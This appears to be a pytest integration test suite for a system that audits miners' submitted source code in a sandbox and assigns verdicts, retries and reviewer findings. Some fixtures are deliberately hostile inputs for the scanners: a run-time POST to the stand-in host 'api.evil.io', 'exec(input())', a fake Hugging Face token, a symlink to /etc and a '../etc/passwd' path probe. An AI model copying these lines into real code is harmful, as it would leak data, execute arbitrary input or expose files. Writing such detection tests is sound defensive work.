"""A source audit from the git host to the verdict: real git, real sandbox, real database."""

import json
from collections.abc import Iterator
from datetime import UTC, datetime

import pytest

from audits import steps
from audits.models import Audit, CheckRun, SourceCopy
from audits.source import CHECKS, archive, scanning, source_audits
from audits.source import queries as pages
from audits.source.origins.base import FetchedCode, NotFetched
from audits.source.origins.git import GitHost as Origin
from competition.models import Competition, Miner, Round, Submission
from core import store
from core.machine import engine
from core.machine.outcomes import Move, Retry, Wait
from tests.audits.git_host import GitHost
from tests.audits.test_source_audit import MIT
from tests.dashboard.made_round import RULES

pytestmark = pytest.mark.django_db

NOW = datetime(2026, 1, 1, tzinfo=UTC)
GOOD = {
    "LICENSE": MIT,
    "requirements.txt": "numpy==2.4.6\n",
    "docker/Dockerfile": f"FROM python:3.11-slim@sha256:{'0' * 64}\nCOPY . .\nUSER 1000\n",
    "serve.py": "import numpy as np\n\n\ndef generate(image, seed):\n    return np.zeros(3).tobytes()\n",
}


@pytest.fixture(scope="module")
def host(tmp_path_factory: pytest.TempPathFactory) -> Iterator[GitHost]:
    with GitHost(tmp_path_factory.mktemp("git")) as made:
        yield made


@pytest.fixture
def audit(host, settings, tmp_path, monkeypatch):
    """An audit of whatever `files` a test pushes."""
    settings.STORE_DIR = tmp_path / "store"
    monkeypatch.setattr(source_audits, "origin", lambda: Origin(host.url, looks=2))

    def of(files, *, repo="", role="challenger", round_=None):
        repo = repo or f"miner/{tmp_path.name.replace('_', '-')}"
        made = host.repository(repo)
        commit = made.push(files)
        return audit_of(repo, commit, role=role, round_=round_)

    return of


def audit_of(repo, commit, *, role="challenger", round_=None):
    competition, _ = Competition.objects.get_or_create(
        slug="sources", defaults={"name": "Sources", "chain": "simulated:sources", "created_at": NOW}
    )
    round_ = round_ or Round.objects.create(
        competition=competition,
        number=1,
        ruleset="margin-1",
        rules=RULES,
        earliest_reveal_block=1,
        latest_reveal_block=9,
        seed_block=10,
        generation_deadline_block=20,
        state="finalizing",
        since=NOW,
    )
    miner = Miner.objects.create(hotkey=f"5{commit[:20]}{role}")
    entry = Submission.objects.create(
        round=round_,
        miner=miner,
        repo=repo,
        commit=commit,
        role=role,
        extrinsic_index=0,
        **({"reveal_block": 5, "cdn_url": "https://files.example.org/x"} if role == "challenger" else {}),
    )
    return Audit.objects.create(round=round_, submission=entry, kind="source", **Audit.born(now=NOW))


def settled(audit, *, looks=20):
    """Look at the audit until it moves; the outcome of the last look."""
    for _ in range(looks):
        outcome = steps.conduct(audit, NOW)
        if not isinstance(outcome, Wait):
            return outcome
    raise AssertionError("the audit came to no end")


def test_a_clean_repository_passes_and_everything_is_kept(audit):
    row = audit(GOOD)
    outcome = settled(row)
    assert (outcome.to, outcome.sets["code"]) == ("passed", "nothing_blocking")
    copy = SourceCopy.objects.get()
    assert archive.contents(store.default().path(copy.archive).read_bytes()) == {
        path: text.encode() for path, text in GOOD.items()
    }
    checks = {check.check_name: check for check in row.checks.all()}
    assert set(checks) == set(source_audits.ORDER)
    assert "no network" in checks["answers"].walls
    assert json.loads(store.default().path(checks["pins"].raw).read_bytes())["outcome"] == "done"
    bom = json.loads(json.loads(store.default().path(checks["inventory"].raw).read_bytes())["document"])
    assert {c["name"]: c.get("version") for c in bom["components"]}["numpy"] == "2.4.6"
    assert checks["vulnerabilities"].outcome == CheckRun.Outcome.UNCONFIGURED


def test_an_unknown_vulnerability_is_said_to_be_unknown(audit):
    row = audit(GOOD)
    settled(row)
    (finding,) = row.findings.filter(check_name="vulnerabilities")
    assert (finding.rule, finding.severity) == ("vulnerabilities_unknown", "notice")


def test_findings_say_which_tool_in_which_version_found_them_and_where(audit):
    row = audit({**GOOD, "serve.py": 'import requests\n\nrequests.post("https://api.evil.io/v1")\n'})
    outcome = settled(row)
    assert outcome.to == "reviewing"
    (finding,) = row.findings.filter(severity="person")
    assert (finding.rule, finding.file, finding.line) == ("network_at_run_time", "serve.py", 3)
    assert (finding.check_name, finding.tool, finding.tool_version) == ("outside", "gauntlet", "1")
    assert "api.evil.io" in finding.excerpt


def test_a_check_that_has_its_row_is_not_run_again_after_a_kill(audit, monkeypatch):
    row = audit(GOOD)
    ran = []
    real = scanning.scan

    def killed_once(name, path, **more):
        ran.append(name)
        if name == "outside" and ran.count("outside") == 1:
            raise KeyboardInterrupt  # kill -9 would leave the same rows
        return real(name, path, **more)

    monkeypatch.setattr(scanning, "scan", killed_once)
    with pytest.raises(KeyboardInterrupt):
        settled(row)
    assert settled(row).to == "passed"
    assert sorted(ran) == sorted([*CHECKS, "outside"])


def test_a_commit_that_its_host_does_not_have_is_believed_the_second_time(audit, host):
    repo = host.repository("miner/empty")
    repo.push(GOOD)
    row = audit_of("miner/empty", "0" * 40)
    first = steps.conduct(row, NOW)
    assert isinstance(first, Retry)
    assert first.failure.failure_class == "infrastructure"
    second = steps.conduct(row, NOW)
    assert isinstance(second, Move)
    assert (second.to, second.sets["code"]) == ("rejected", "commit_missing")
    assert not source_audits.missing(row)


def test_an_outage_of_the_host_is_never_a_finding(audit, host):
    row = audit(GOOD)
    for _ in range(4):
        host.answers = [503]
        outcome = steps.conduct(row, NOW)
        assert isinstance(outcome, Retry)
        assert (outcome.failure.failure_class, outcome.failure.code) == ("infrastructure", "CODE_NOT_FETCHED")
    assert not row.findings.exists()
    assert settled(row).to == "passed"


def test_a_check_that_is_broken_for_everybody_is_ours_and_tried_again(audit, monkeypatch):
    real = scanning.scan

    def broken(name, path, **more):
        found = real(name, path, **more)
        return found if name != "secrets" else scanning.replace(found, outcome="broken", why="it crashed", findings=())

    monkeypatch.setattr(scanning, "scan", broken)
    row = audit(GOOD)
    outcomes = [steps.conduct(row, NOW) for _ in range(5)]
    assert {(type(o), o.failure.failure_class, o.failure.code) for o in outcomes} == {
        (Retry, "infrastructure", "CHECK_BROKE")
    }
    assert row.checks.get(check_name="secrets").tries == 5
    assert not row.findings.exclude(severity="notice").exists()
    monkeypatch.setattr(scanning, "scan", real)
    assert settled(row).to == "passed"


def test_a_tree_that_breaks_a_check_goes_to_a_person_with_the_other_checks_done(audit):
    row = audit({**GOOD, "table.py": "x = os" + "()" * 2400 + "\n", "big.py": "x = 0x" + "f" * 5000 + "\n"})
    assert settled(row).to == "reviewing"
    assert {check.outcome for check in row.checks.all()} <= {"done", "exhausted", "unconfigured"}


def test_a_damaged_copy_of_ours_is_never_held_against_the_code(audit, monkeypatch):
    row = audit(GOOD)
    copy = source_audits.copy_of(row.submission, now=NOW)
    path = store.default().path(copy.archive)
    path.chmod(0o600)
    path.write_bytes(path.read_bytes()[:700])
    assert engine.advance("audits.Audit", row.pk, now=NOW)
    row.refresh_from_db()
    assert (row.state, row.failure_class) == ("gathering", "infrastructure") and "STORED_FILE" in row.failure_code
    assert not row.findings.exists()


def test_code_that_alone_is_not_handed_out_is_for_a_person_and_pauses_nobody(audit, host, monkeypatch):
    """A repository may be made so that fetching it takes for ever: others from the same host show whose doing it is."""
    other = audit(GOOD, repo="leader/known", role="leader")
    source_audits.copy_of(other.submission, now=NOW)
    row = audit(GOOD, repo="miner/slow", round_=other.round)
    real = source_audits.origin()

    class Slow:
        name, witness = "git", ""

        def fetch(self, repo, commit):
            if repo == "miner/slow":
                raise NotFetched("infrastructure", "code_not_fetched", "We could not fetch the code: it took too long.")
            return real.fetch(repo, commit)

    monkeypatch.setattr(source_audits, "origin", Slow)
    assert isinstance(steps.conduct(row, NOW), Retry)
    row.attempts = row.declared.looks
    outcome = steps.conduct(row, NOW)
    assert (outcome.to, outcome.sets["code"]) == ("reviewing", "code_not_fetched")


def test_where_no_other_code_is_known_the_witness_of_the_host_shows_that_it_is_well(audit, host, monkeypatch):
    row = audit(GOOD, repo="miner/slow")

    class Slow:
        name, witness = "git", f"known/good@{'5' * 40}"
        well = True

        def fetch(self, repo, commit):
            if repo == "known/good" and Slow.well:
                return FetchedCode(files=(), left_out=(), origin="git")
            raise NotFetched("infrastructure", "code_not_fetched", "We could not fetch the code: it took too long.")

    monkeypatch.setattr(source_audits, "origin", Slow)
    row.attempts, Slow.well = row.declared.looks, False
    assert isinstance(steps.conduct(row, NOW), Retry)
    Slow.well = True
    outcome = settled(row)
    assert (outcome.to, outcome.sets["code"]) == ("reviewing", "code_not_fetched")


def test_a_leaders_code_that_cannot_be_had_holds_up_nobodys_audit(audit, host, monkeypatch):
    leader = audit(GOOD, repo="leader/gone", role="leader")
    known = audit(GOOD, repo="other/known", round_=leader.round)
    source_audits.copy_of(known.submission, now=NOW)
    row = audit({**GOOD, "serve.py": "PAUSE = 3\n"}, repo="miner/audited", round_=leader.round)
    real = source_audits.origin()

    class Slow:
        name, witness = "git", ""

        def fetch(self, repo, commit):
            if repo == "leader/gone":
                raise NotFetched("infrastructure", "code_not_fetched", "We could not fetch the code: it took too long.")
            return real.fetch(repo, commit)

    monkeypatch.setattr(source_audits, "origin", Slow)
    row.attempts = row.declared.looks
    assert settled(row).to == "passed"


def test_what_was_left_out_of_the_archive_is_found_again_for_every_audit_of_the_commit(audit, host):
    made = host.repository("miner/links")
    tree = made.raw_tree([("120000", b"link", made.blob(b"/etc")), ("160000", b"module", "a" * 40)])
    commit = made.commit(tree, branch=None)
    made.push(GOOD)
    for name in ("challenger", "leader"):
        row = audit_of("miner/links", commit, role=name, round_=Round.objects.first())
        assert settled(row).to == "rejected"
        kept = {f.rule: f.severity for f in row.findings.filter(check_name="fetch")}
        assert kept == {"not_a_file": "blocking", "submodule": "person", "commit_off_branches": "person"}
    assert SourceCopy.objects.count() == 1


def test_without_a_sandbox_nothing_is_checked_and_nobody_is_blamed(audit, monkeypatch):
    def none(name, path, **more):
        raise scanning.NoSandbox("it did not start")

    monkeypatch.setattr(scanning, "scan", none)
    row = audit(GOOD)
    for _ in range(5):
        outcome = steps.conduct(row, NOW)
        assert isinstance(outcome, Retry)
        assert outcome.failure.failure_class == "infrastructure"
    assert not row.findings.exists()


def test_what_is_shared_with_the_leader_is_said_for_credit_and_decides_nothing(audit):
    body = "\n".join(f"def f{n}(a, b):\n    return [a * {n} + x for x in range(b) if x % {n + 2}]\n" for n in range(9))
    leader = audit({**GOOD, "serve.py": body}, repo="leader/solution", role="leader")
    source_audits.copy_of(leader.submission, now=NOW)
    row = audit({**GOOD, "serve.py": body + "\nPAUSE = 3\n"}, repo="other/solution", round_=leader.round)
    assert settled(row).to == "passed"
    (finding,) = row.findings.filter(check_name="lineage")
    assert finding.severity == "notice"
    assert "9 functions are the same" in finding.sentence


def test_pages_read_findings_worst_first_with_code_checks_parts_and_relatives(audit):
    body = "\n".join(f"def f{n}(a, b):\n    return [a * {n} + x for x in range(b) if x % {n + 2}]\n" for n in range(9))
    leader = audit({**GOOD, "serve.py": body}, repo="first/solution", role="leader")
    settled(leader)
    bad = {**GOOD, "serve.py": body + "\nexec(input())\n", "keys.py": f'TOKEN = "hf_{"aB3dE5gH7j" * 4}"\n'}
    row = audit(bad, repo="second/solution", round_=leader.round)
    settled(row)
    by_weight = pages.findings_by_severity(row)
    assert [f.rule for f in by_weight["person"]] == ["secret", "code_at_run_time"]
    files = pages.files_of(pages.copy_of(row.submission), wanted={"serve.py", "keys.py", "../etc/passwd"})
    assert sorted(files) == ["keys.py", "serve.py"]
    secret, code = by_weight["person"]
    marked = [line.text for line in pages.code_around(files, code) if line.marked]
    assert marked == ["exec(input())"]
    assert pages.code_around(files, secret) == []
    assert "aB3dE5gH7j" not in secret.excerpt
    assert [check.name for check in pages.checks_of(row)] == list(source_audits.ORDER)
    assert {"kind": "pypi", "name": "numpy", "version": "2.4.6", "file": "requirements.txt"} in pages.parts_of(row)
    (relative,) = pages.relatives_of(row)
    assert relative.entry == leader.submission.key
    assert len(relative.shared.functions) == 9
    shown = pages.diff_between(row.submission, leader.submission, path="serve.py", their_path="serve.py")
    assert "+exec(input())" in shown
